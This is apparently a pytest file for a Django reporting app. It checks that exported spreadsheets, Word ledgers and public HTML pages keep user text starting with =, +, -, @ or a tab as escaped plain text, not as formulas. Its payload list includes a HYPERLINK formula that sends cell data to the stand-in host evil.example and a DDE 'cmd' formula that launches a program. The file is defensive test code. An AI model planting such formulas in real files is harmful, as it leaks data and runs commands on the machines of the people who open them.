"""Exported text is data, never a formula: every text that a user or an imported list can put
in a table, beginning with = + - @ (or a tab or a carriage return), comes back from every
export as the same text in a string cell. Each file is reopened and every cell checked."""

from __future__ import annotations

import datetime
import io
import zipfile

import docx
import openpyxl
import pytest
from django.urls import reverse
from factories import (
    make_category,
    make_leader,
    make_milestone,
    make_person,
    make_plan,
    make_project,
    make_report,
    make_subitem,
    make_unit,
)
from queued import exported

from progress.exports.services import publication_publish
from progress.models import ProgressReport, Status
from projects.models import Plan

pytestmark = pytest.mark.django_db

PERIOD = datetime.date(2024, 3, 1)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1\n第二行",
]


def payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


@pytest.fixture
def plan(jurisdiction) -> Plan:
    """Every text of a plan and its reports begins with a formula character."""
    plan = make_plan(jurisdiction, title="=2024年民生实事项目清单", year=2024)
    lead = make_unit(jurisdiction, "=区教育局")
    co = make_unit(jurisdiction, "+区民政局")
    leader = make_leader(jurisdiction, "@张三")
    person = make_person(lead, "-李四")
    category = make_category(plan, "=增加教育资源配置")
    n = 0
    for p in range(2):
        project = make_project(
            plan,
            number=f"={p + 1}",
            name=payload(n),
            description=payload(n + 1),
            category=category,
            leaders=[leader],
        )
        n += 2
        for _s in range(2):
            sub = make_subitem(
                project,
                name=payload(n),
                description=payload(n + 1),
                lead_unit=lead,
                co_units=[co],
                persons=[person],
                leaders=[leader],
            )
            make_milestone(sub, datetime.date(2024, 3, 31), payload(n + 2))
            make_report(
                sub,
                PERIOD,
                state=ProgressReport.State.APPROVED,
                status=Status.LAGGING,
                completion=payload(n + 3),
                explanation=payload(n + 4),
                problems=payload(n + 5),
                next_steps=payload(n + 6),
            )
            n += 7
    return plan


def check_xlsx(data: bytes) -> list[str]:
    """Every filled cell of every sheet is a string cell; returns their values."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
                assert isinstance(cell.value, str)
                if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.quotePrefix, (cell.coordinate, cell.value)
                values.append(cell.value)
    # and in the file itself: no formula element anywhere
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    return values


def body(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def download(client, url: str) -> bytes:
    """A public table is sent by the request; an export's file is written by a worker."""
    if url.startswith("/exports/"):
        return body(exported(client, url))
    return body(client.get(url))


def xlsx_urls(plan: Plan) -> list[str]:
    return [
        reverse("exports:monthly", args=[plan.pk, "2024-03"]),
        reverse("exports:ledger_xlsx", args=[plan.pk, "2024-03"]),
        reverse("exports:plan", args=[plan.pk]),
        reverse("public:table_xlsx", args=[plan.pk, "2024-03"]),
    ]


def test_every_xlsx_export_writes_text_not_formulas(client_as, supervisor, plan):
    publication_publish(plan=plan, period=PERIOD, user=supervisor, show_persons=True)
    client = client_as(supervisor)
    seen: set[str] = set()
    for url in xlsx_urls(plan):
        values = check_xlsx(download(client, url))
        assert any(v.startswith("=") for v in values), url
        seen.update(values)
    # the texts come back unchanged, each in a cell of its own
    for text in PAYLOADS:
        assert text in seen, text
    for text in ("=区教育局", "@张三", "=1", "=2"):
        assert text in seen, text
    assert any(v.startswith("+区民政局") for v in seen)  # co-units
    assert any(v.startswith("-李四") for v in seen)  # persons, in the plan list
    assert "一、=增加教育资源配置" in seen  # the category heading


def test_the_quarterly_public_table_too(client, supervisor, plan):
    plan.reporting_cycle = Plan.Cycle.QUARTERLY
    plan.save()
    publication_publish(plan=plan, period=PERIOD, user=supervisor, show_persons=False)
    values = check_xlsx(body(client.get(reverse("public:table_xlsx", args=[plan.pk, "2024-03"]))))
    assert PAYLOADS[0] in values or any(v.startswith("=") for v in values)


def test_the_docx_ledger_holds_the_text_as_text(client_as, supervisor, plan):
    data = download(
        client_as(supervisor), reverse("exports:ledger_docx", args=[plan.pk, "2024-03"])
    )
    document = docx.Document(io.BytesIO(data))
    texts = {cell.text for row in document.tables[0].rows for cell in row.cells}
    expected = set()
    for report in ProgressReport.objects.filter(subitem__project__plan=plan).select_related(
        "subitem__project"
    ):
        sub = report.subitem
        expected |= {sub.project.name, sub.name, report.completion, report.problems}
        expected.add(report.next_steps)
    assert any(t.startswith("=") for t in expected)
    for text in expected:  # a tab and a line break are Word's own <w:tab/> and <w:br/>
        assert text in texts, text
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("word/document.xml")
    assert b"w:fldSimple" not in xml and b"w:instrText" not in xml  # no Word fields


def test_the_public_html_escapes_the_text(client, supervisor, plan):
    publication_publish(plan=plan, period=PERIOD, user=supervisor, show_persons=True)
    page = client.get(reverse("public:table", args=[plan.pk, "2024-03"])).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;点击&quot;)" in page
    assert "=cmd|&#x27; /C calc&#x27;!A0" in page
